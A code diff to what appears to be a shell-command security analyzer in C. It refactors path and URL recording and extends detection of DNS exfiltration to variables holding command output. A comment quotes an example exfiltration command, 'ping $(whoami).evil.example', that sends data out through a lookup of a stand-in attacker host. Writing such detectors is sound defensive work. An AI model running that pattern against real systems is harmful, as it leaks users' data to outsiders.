@@ -61,6 +61,30 @@ static int dev_sink(pe_str w)
     return sh_in_list(sinks, w.s, w.len);
 }
 
+/* A path being recorded: where it is, what it is for. */
+typedef struct path_rec {
+    sh_where w;
+    unsigned wflags, role;
+} path_rec;
+
+static void record_path(sh_ctx *c, void *arg, pe_str p, int known, int tainted)
+{
+    const path_rec *pr = arg;
+    (void)tainted;
+    if (sh_grow(c, (void **)&c->paths, &c->path_cap, c->npaths + 1, sizeof(*c->paths)))
+        return;
+    pe_shell_path *e = &c->paths[c->npaths++];
+    e->path = p;
+    e->cwd = pr->w.cwd;
+    e->role = pr->role;
+    e->flags = (known ? 0 : PE_SHELL_P_UNKNOWN) |
+               ((pr->wflags & PE_SHELL_W_GLOB) || memchr(p.s, '*', p.len) ? PE_SHELL_P_GLOB : 0);
+    if (!pr->w.known && !(p.len && (p.s[0] == '/' || p.s[0] == '~')))
+        e->flags |= PE_SHELL_P_UNKNOWN;
+    if (c->remote)
+        e->flags |= PE_SHELL_P_REMOTE; /* a path on another host or in a container */
+}
+
 void sh_path_in(sh_ctx *c, unsigned scope, sh_where w, pe_str word, unsigned wflags, unsigned role)
 {
     if (!word.len || !role || dev_sink(word))
@@ -72,20 +96,8 @@ void sh_path_in(sh_ctx *c, unsigned scope, sh_where w, pe_str word, unsigned wfl
     }
     if ((role & PE_SHELL_P_EXEC) && sh_file_downloaded(c, scope, word, wflags))
         c->flags |= PE_SHELL_RUNS_DOWNLOAD;
-    pe_str p;
-    int known = sh_expand(c, scope, word, wflags, &p);
-    if (sh_grow(c, (void **)&c->paths, &c->path_cap, c->npaths + 1, sizeof(*c->paths)))
-        return;
-    pe_shell_path *e = &c->paths[c->npaths++];
-    e->path = p;
-    e->cwd = w.cwd;
-    e->role = role;
-    e->flags = (known ? 0 : PE_SHELL_P_UNKNOWN) |
-               ((wflags & PE_SHELL_W_GLOB) || memchr(p.s, '*', p.len) ? PE_SHELL_P_GLOB : 0);
-    if (!w.known && !(p.len && (p.s[0] == '/' || p.s[0] == '~')))
-        e->flags |= PE_SHELL_P_UNKNOWN;
-    if (c->remote)
-        e->flags |= PE_SHELL_P_REMOTE; /* a path on another host or in a container */
+    path_rec pr = {w, wflags, role};
+    sh_expand_each(c, scope, word, wflags, record_path, &pr);
 }
 
 void sh_path_add(sh_ctx *c, unsigned scope, pe_str word, unsigned wflags, unsigned role)
@@ -111,11 +123,15 @@ void sh_add_host(sh_ctx *c, const pe_host *h)
 static void known_host_parts(sh_ctx *c, pe_str h)
 {
     size_t first = h.len, last = 0;
-    for (size_t i = 0; i < h.len; i++)
-        if (strchr("$`)}", h.s[i])) {
-            first = i < first ? i : first;
-            last = i + 1;
-        }
+    for (size_t i = 0; i < h.len; i++) {
+        if (!strchr("$`)}", h.s[i]))
+            continue;
+        first = i < first ? i : first;
+        last = i + 1;
+        if (h.s[i] == '$') /* $NAME: the name is not part of the host */
+            while (last < h.len && sh_is_name_char((unsigned char)h.s[last]))
+                last++;
+    }
     if (first == h.len)
         return;
     pe_str parts[2] = {{h.s, first}, {h.s + last, h.len - last}};
@@ -157,27 +173,41 @@ static int carries_data(pe_str h)
     return dot && (size_t)(dot - rest.s) + 1 < rest.len;
 }
 
-/* A name made by a substitution is a lookup that carries data out (DNS
- * exfiltration: ping $(whoami).evil.example). */
-int sh_net_word(sh_ctx *c, unsigned scope, pe_str word, unsigned wflags, int style)
+typedef struct net_rec {
+    unsigned wflags;
+    int style, kind;
+} net_rec;
+
+static void record_net(sh_ctx *c, void *arg, pe_str t, int known, int tainted)
 {
-    pe_str t;
-    sh_expand(c, scope, word, wflags, &t);
+    net_rec *nr = arg;
     pe_url u;
-    if (pe_url_parse(&u, t.s, t.len, (pe_url_style)style, c->arena) < 0) {
+    (void)known;
+    if (pe_url_parse(&u, t.s, t.len, (pe_url_style)nr->style, c->arena) < 0) {
         sh_nomem(c);
-        return 0;
+        return;
     }
     if (u.host.kind == PE_HOST_NONE)
-        return 0;
+        return;
     const pe_str *h = &u.host.text;
-    if ((wflags & PE_SHELL_W_CMDSUB) && carries_data(*h))
+    if (tainted && carries_data(*h))
         c->flags |= PE_SHELL_DNS_EXFIL;
     sh_strs_add(c, &c->urls, t, 0);
     sh_add_host(c, &u.host);
-    if (wflags & PE_SHELL_W_EXPANDS)
+    if (nr->wflags & PE_SHELL_W_EXPANDS)
         known_host_parts(c, *h);
-    return (int)u.host.kind;
+    if (!nr->kind)
+        nr->kind = (int)u.host.kind;
+}
+
+/* A name made by a substitution, or by a variable holding another
+ * command's output, is a lookup that carries data out (DNS exfiltration:
+ * ping $(whoami).evil.example). */
+int sh_net_word(sh_ctx *c, unsigned scope, pe_str word, unsigned wflags, int style)
+{
+    net_rec nr = {wflags, style, 0};
+    sh_expand_each(c, scope, word, wflags, record_net, &nr);
+    return nr.kind;
 }
 
 /* A DNS record type (dig x TXT, host -t is an option). */
